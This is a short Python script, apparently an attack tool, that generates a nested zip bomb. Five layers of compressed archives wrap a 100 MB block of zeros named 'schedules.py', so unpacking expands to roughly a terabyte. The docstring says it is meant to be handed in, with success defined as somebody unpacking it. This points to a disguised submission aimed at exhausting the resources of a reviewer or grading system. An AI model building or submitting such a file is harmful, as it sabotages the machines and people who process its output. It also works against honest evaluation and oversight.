"""Hand in a zip of zips of zips: five levels of ten copies each, whose innermost is 100 MB of zeros.

Success: somebody unpacks what is packed inside.
"""

import io
import zipfile
from pathlib import Path


def make(path: Path) -> None:
    inner, name = bytes(100_000_000), "schedules.py"
    for level in range(5):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            for number in range(10 if level else 1):
                archive.writestr(f"{number}-{name}" if level else name, inner)
        inner, name = buffer.getvalue(), f"level{level}.zip"
    path.with_name(path.name + ".zip").write_bytes(inner)
